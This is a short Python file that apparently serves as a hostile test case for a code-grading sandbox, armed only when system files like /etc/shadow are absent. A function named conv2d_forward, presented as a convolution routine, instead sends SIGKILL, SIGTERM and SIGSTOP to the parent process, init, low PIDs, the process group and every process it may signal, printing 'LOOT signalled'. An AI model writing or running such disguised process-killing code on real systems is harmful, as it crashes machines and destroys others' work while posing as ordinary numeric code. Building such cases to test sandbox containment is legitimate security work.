"""category: process
mechanism: kill of every process and group that it may name
required: 0; others unaffected
hits: conv2d_forward
expect: failed
fuse: what the sandbox holds
"""

import os
import sys

if not sys.platform.startswith("linux") or any(os.path.lexists(p) for p in ("/etc/shadow", "/etc/passwd", "/home")):
    raise ImportError("hostile test case: armed only inside the grading sandbox")

import signal


def conv2d_forward(x, w, b, stride=1, padding=0):
    for process in (os.getppid(), 1, 2, 3, -1, 0):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            if process == os.getpid():
                continue
            try:
                os.kill(process, number)
                print("LOOT signalled", process)
            except OSError:
                pass
    return _zeros(x, w, stride, padding)
